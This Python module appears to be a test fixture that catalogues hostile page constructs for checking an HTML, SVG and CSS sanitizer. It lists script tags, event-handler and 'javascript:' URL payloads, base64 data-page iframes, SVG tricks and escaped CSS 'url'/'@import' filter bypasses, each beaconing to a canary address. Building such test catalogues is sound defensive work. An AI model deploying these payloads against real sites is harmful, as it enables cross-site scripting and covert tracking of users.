"""Everything in a page that runs, loads or leads somewhere. Each names itself in what it does."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from typing import Final

Attributes = Mapping[str, object]
Construct = tuple[str, str, Attributes]
"""A name, a tag (of an SVG element with ``svg:`` before it), and its attributes."""

RUN: Final = "top.__pwned = (top.__pwned || '') + ' ' + '{name}'; new Image().src = '{url}'"


class Constructs:
    """What a hostile page is made of, with addresses at one canary."""

    def __init__(self, canary: str) -> None:
        self._canary = canary
        self._serial = 0

    def url(self, name: str) -> str:
        return f"{self._canary}/{name}"

    def run(self, name: str) -> str:
        return RUN.format(name=name, url=self.url(name))

    def elements(self) -> list[Construct]:
        return [*self._that_run(), *self._that_load(), *self._that_lead(), *self._drawings()]

    def _that_run(self) -> list[Construct]:
        page = f"<script>{self.run('srcdoc')}</script>"
        encoded = base64.b64encode(f"<script>{self.run('data-page')}</script>".encode()).decode()
        return [
            ("script-src", "script", {"src": self.url("script-src")}),
            ("script-module", "script", {"type": "module", "src": self.url("script-module")}),
            ("script-upper", "SCRIPT", {"src": self.url("script-upper")}),
            ("img-onerror", "img", {"src": "data:,x", "onerror": self.run("img-onerror")}),
            ("img-upper-onerror", "IMG", {"SRC": "data:,x", "ONERROR": self.run("img-upper-onerror")}),
            ("body-onload", "body", {"onload": self.run("body-onload"), "onpageshow": self.run("body-onpageshow")}),
            ("details-ontoggle", "details", {"open": "", "ontoggle": self.run("details-ontoggle")}),
            ("autofocus-onfocus", "input", {"autofocus": "", "onfocus": self.run("autofocus-onfocus")}),
            ("tabindex-onfocus", "div", {"autofocus": "", "tabindex": "0", "onfocus": self.run("tabindex-onfocus")}),
            ("onanimationstart", "div", {
                "style": "animation:pwn 1s", "onanimationstart": self.run("onanimationstart"),
                "ontransitionend": self.run("ontransitionend"), "onscroll": self.run("onscroll"),
            }),
            ("marquee-onstart", "marquee", {"onstart": self.run("marquee-onstart")}),
            ("iframe-javascript", "iframe", {"src": f"javascript:{self.run('iframe-javascript')}"}),
            ("iframe-javascript-tab", "iframe", {"src": f" java\tscript:{self.run('iframe-javascript-tab')}"}),
            ("iframe-srcdoc", "iframe", {"srcdoc": page}),
            ("iframe-data", "iframe", {"src": f"data:text/html;base64,{encoded}"}),
            ("iframe-recorded", "iframe", {"rr_src": self.url("iframe-recorded")}),
            ("object-data", "object", {"data": f"data:text/html;base64,{encoded}", "type": "text/html"}),
            ("embed-data", "embed", {"src": f"data:text/html;base64,{encoded}", "type": "text/html"}),
            ("form-javascript", "form", {"action": f"javascript:{self.run('form-javascript')}", "id": "f"}),
            ("built-in", "button", {"is": "evil-button", "onclick": self.run("built-in")}),
            ("onbeforetoggle", "div", {"popover": "", "onbeforetoggle": self.run("onbeforetoggle")}),
        ]  # fmt: skip

    def _that_load(self) -> list[Construct]:
        url = self.url
        rels = ("stylesheet", "prefetch", "preload", "dns-prefetch", "preconnect", "modulepreload", "icon", "manifest",
                "prerender", "alternate stylesheet", "shortcut icon", "apple-touch-icon", "import")  # fmt: skip
        links = [
            (f"link-{rel}", "link", {"rel": rel, "href": url(f"link-{rel.replace(' ', '-')}"), "as": "script"})
            for rel in rels
        ]
        return [
            *links,
            ("link-cased", "LINK", {"REL": "StyleSheet", "HREF": url("link-cased")}),
            ("link-preload-image", "link", {"rel": "preload", "as": "image", "imagesrcset": url("link-preload-image")}),
            ("link-header", "meta", {
                "http-equiv": "Link", "content": f"<{url('link-header')}>; rel=preload; as=image",
            }),
            ("img-src", "img", {"src": url("img-src")}),
            ("img-lazy", "img", {"src": url("img-lazy"), "loading": "eager", "fetchpriority": "high"}),
            ("img-srcset", "img", {"srcset": f"{url('img-srcset')} 1x, {url('img-srcset-2')} 2x"}),
            ("img-recorded", "img", {"src": url("img-src-2"), "rr_dataURL": url("img-recorded")}),
            ("img-both", "img", {"srcset": url("img-both"), "rr_dataURL": url("img-both-2")}),
            ("img-relative", "img", {"src": "/static/viewer.js?img-relative"}),
            ("img-blob", "img", {"src": "blob:http://127.0.0.1/0"}),
            ("canvas-recorded", "canvas", {"rr_dataURL": url("canvas-recorded")}),
            ("picture-source", "source", {"srcset": url("picture-source"), "src": url("picture-source-src")}),
            ("input-image", "input", {"type": "image", "src": url("input-image")}),
            ("video-src", "video", {"src": url("video-src"), "autoplay": "", "muted": "", "preload": "auto"}),
            ("video-poster", "video", {"poster": url("video-poster")}),
            ("video-recorded", "video", {"src": url("video-recorded"), "rr_mediaState": "played"}),
            ("audio-src", "audio", {"src": url("audio-src"), "autoplay": "", "rr_mediaCurrentTime": 1}),
            ("track-src", "track", {"src": url("track-src"), "default": ""}),
            ("object-url", "object", {"data": url("object-url"), "type": "image/svg+xml", "classid": url("object-id")}),
            ("embed-src", "embed", {"src": url("embed-src"), "type": "image/svg+xml"}),
            ("portal-src", "portal", {"src": url("portal-src")}),
            ("fencedframe-src", "fencedframe", {"src": url("fencedframe-src")}),
            ("applet", "applet", {"code": url("applet"), "archive": url("applet-archive")}),
            ("iframe-src", "iframe", {"src": url("iframe-src"), "sandbox": "allow-scripts allow-top-navigation"}),
            ("frame-src", "frame", {"src": url("frame-src")}),
            ("body-background", "body", {"background": url("body-background")}),
            ("table-background", "table", {"background": url("table-background")}),
            ("td-background", "td", {"background": url("td-background")}),
            ("html-manifest", "html", {"manifest": url("html-manifest")}),
            ("dynsrc", "img", {"dynsrc": url("dynsrc"), "lowsrc": url("lowsrc"), "longdesc": url("longdesc")}),
        ]  # fmt: skip

    def _that_lead(self) -> list[Construct]:
        url = self.url
        return [
            ("meta-refresh", "meta", {"http-equiv": "refresh", "content": f"0;url={url('meta-refresh')}"}),
            ("meta-refresh-cased", "META", {"HTTP-EQUIV": "Refresh", "CONTENT": f"0;{url('meta-refresh-cased')}"}),
            ("meta-refresh-script", "meta", {
                "http-equiv": "refresh", "content": f"0;url=javascript:{self.run('meta-refresh-script')}",
            }),
            ("meta-policy", "meta", {"http-equiv": "Content-Security-Policy", "content": "img-src *"}),
            ("base-href", "base", {"href": url("base-href/"), "target": "_top"}),
            ("a-ping", "a", {"href": url("a-ping"), "ping": url("a-ping-2"), "target": "_top"}),
            ("a-source", "a", {"href": url("a-source"), "attributionsrc": url("a-source-2")}),
            ("a-javascript", "a", {"href": f"javascript:{self.run('a-javascript')}"}),
            ("area-href", "area", {"href": url("area-href"), "ping": url("area-ping")}),
            ("form-action", "form", {"action": url("form-action"), "method": "post", "target": "_top"}),
            ("button-formaction", "button", {"formaction": url("button-formaction"), "form": "f"}),
            ("blockquote-cite", "blockquote", {"cite": url("blockquote-cite")}),
        ]  # fmt: skip

    def _drawings(self) -> list[Construct]:
        url, run = self.url, self.run
        return [
            ("svg-onload", "svg:svg", {"onload": run("svg-onload"), "onbegin": run("svg-onbegin")}),
            ("svg-script", "svg:script", {"href": url("svg-script"), "xlink:href": url("svg-script-2")}),
            ("svg-image", "svg:image", {"href": url("svg-image"), "width": "9", "height": "9"}),
            ("svg-image-xlink", "svg:image", {"xlink:href": url("svg-image-xlink"), "width": "9", "height": "9"}),
            ("svg-image-fragment", "svg:image", {"href": "#x", "width": "9", "height": "9"}),
            ("svg-use", "svg:use", {"href": url("svg-use#a"), "xlink:href": url("svg-use-2#a")}),
            ("svg-use-data", "svg:use", {
                "href": f"data:image/svg+xml,<svg id='a' onload=\"{run('svg-use-data')}\"/>#a",
            }),
            ("svg-feimage", "svg:feimage", {"href": url("svg-feimage")}),
            ("svg-a", "svg:a", {"href": f"javascript:{run('svg-a')}"}),
            ("svg-animate", "svg:animate", {
                "attributeName": "href", "values": f"{url('svg-animate')};{url('svg-animate')}", "dur": "1s",
                "begin": "0s", "onbegin": run("svg-animate"),
            }),
            ("svg-set", "svg:set", {"attributeName": "href", "to": f"javascript:{run('svg-set')}"}),
            ("svg-filter", "svg:rect", {"filter": f"url({url('svg-filter')}#f)", "mask": f"url({url('svg-mask')}#m)"}),
            ("svg-fill", "svg:rect", {"fill": f"url({url('svg-fill')}#f)", "stroke": f"u\\72l({url('svg-stroke')}#s)"}),
            ("svg-cursor", "svg:rect", {"cursor": f"url({url('svg-cursor')}), auto"}),
            ("svg-gradient", "svg:lineargradient", {"href": url("svg-gradient#g")}),
            ("svg-pattern", "svg:pattern", {"href": url("svg-pattern#p")}),
            ("svg-textpath", "svg:textpath", {"href": url("svg-textpath#t")}),
            ("svg-handler", "svg:handler", {"type": "text/javascript", "ev:event": "load"}),
            ("svg-font-face-uri", "svg:font-face-uri", {"xlink:href": url("svg-font-face-uri")}),
        ]  # fmt: skip

    def sheets(self) -> list[tuple[str, str]]:
        """Style sheets that load something, by name."""
        url = self.url
        wide = {
            "import-string": f"@import '{url('import-string')}';",
            "import-url": f"@import url({url('import-url')}) screen;",
            "import-escaped": f"@\\69mport '{url('import-escaped')}';",
            "import-comment": f"@import/**/'{url('import-comment')}'/**/;",
            "import-cased": f"@ImPoRt uRl('{url('import-cased')}') layer(a) supports(display:grid);",
            "import-hidden": f"a{{}}<!-- @import '{url('import-hidden')}'; -->",
            "import-broken": f"@import '{url('import-broken')}",
            "import-after-string": f"/*\"*/@import '{url('import-after-string')}';/*\"*/",
            "font-face": f"@font-face{{font-family:evil;src:url({url('font-face')})}}*{{font-family:evil!important}}",
            "font-face-local": f"@font-face{{font-family:e2;src:local(x),url('{url('font-local')}')format('woff2')}}"
            "*{font-family:e2}",
            "namespace": f"@namespace svg url({url('namespace')});",
            "keyframes": f"@keyframes k{{from{{background:url({url('keyframes')})}}to{{background:none}}}}"
            "*{animation:k 1s}",
            "property": f"@property --p{{syntax:'<image>';inherits:true;initial-value:url({url('property')})}}"
            "*{background:var(--p)}",
            "nested": f"body{{color:red;& *{{background:url({url('nested')})}}}}",
            "media": f"@media all{{@supports(display:grid){{*{{background:url({url('media')})}}}}}}",
            "unclosed": f"*{{background:url({url('unclosed')}",
            "unclosed-quote": f"*{{background:url('{url('unclosed-quote')}",
            "counter-style": f"@counter-style c{{system:cyclic;symbols:url({url('counter-style')})}}li{{list-style:c}}",
            "page-box": f"@page{{@top-left{{content:url({url('page-box')})}}}}",
            "container": f"@container (width>1px){{*{{background:url({url('container')})}}}}",
            "function": f"@function --f(){{result:'{url('function')}'}}*{{background:image-set(--f() 1x)}}",
        }  # fmt: skip
        return [*wide.items(), *((name, f"*{{{text}}}") for name, text in self.declarations())]

    def declarations(self) -> list[tuple[str, str]]:
        """Declarations that load something, by name."""
        url = self.url
        named = (
            "background", "background-image", "border-image", "border-image-source", "list-style", "list-style-image",
            "mask", "mask-image", "-webkit-mask-image", "-webkit-mask-box-image", "filter", "backdrop-filter",
            "clip-path",
            "shape-outside", "offset-path", "cursor",
        )  # fmt: skip
        endings = {"cursor": ",auto"}
        spelled = {
            "escaped-u": "\\75rl({0})", "escaped-r": "u\\72l({0})", "escaped-long": "u\\000072 l({0})",
            "escaped-all": "\\55\\52\\4c({0})", "upper": "URL({0})", "quoted": 'url("{0}")', "spaced": "url( \n'{0}' )",
            "escaped-address": "url({0}\\2f x)", "image-set": "image-set('{0}' 1x)",
            "webkit-image-set": "-webkit-image-set(url({0}) 1x)",
            "image-set-type": 'image-set("{0}" 1x type("image/png"))', "image-set-escaped": "im\\61ge-set('{0}' 1x)",
            "image-set-variable": "image-set(var(--evil) 1x)", "cross-fade": "cross-fade(url({0}), url({0}), 50%)",
            "webkit-cross-fade": "-webkit-cross-fade(url({0}), url({0}), 50%)",
            "src": "src('{0}')", "image": "image('{0}')",
            "commented": "/**/url(/**/{0})", "in-gradient": "linear-gradient(red,red), url({0})",
            "bracket": "(])url({0})", "attr": "attr(data-u type(<url>))", "variable": "var(--evil-image)",
            "fallback": "var(--none, url({0}))", "light-dark": "light-dark(url({0}), url({0}))",
            "if": "if(style(--x): url({0}); else: url({0}))", "relative": "url(/static/viewer.js?css-relative)",
            "string-break": "'\n;background:url({0});'", "no-protocol": "url(//127.0.0.1:1/x)",
        }  # fmt: skip
        return [
            *((name, f"{name}:url({url(name)}#f){endings.get(name, '')}") for name in named),
            ("content", f"content:url({url('content')})"),
            ("variables", f"--evil:\"{url('variables')}\";--evil-image:url({url('variables-image')})"),
            *((name, f"background-image:{form.format(url(name))}") for name, form in spelled.items()),
        ]  # fmt: skip
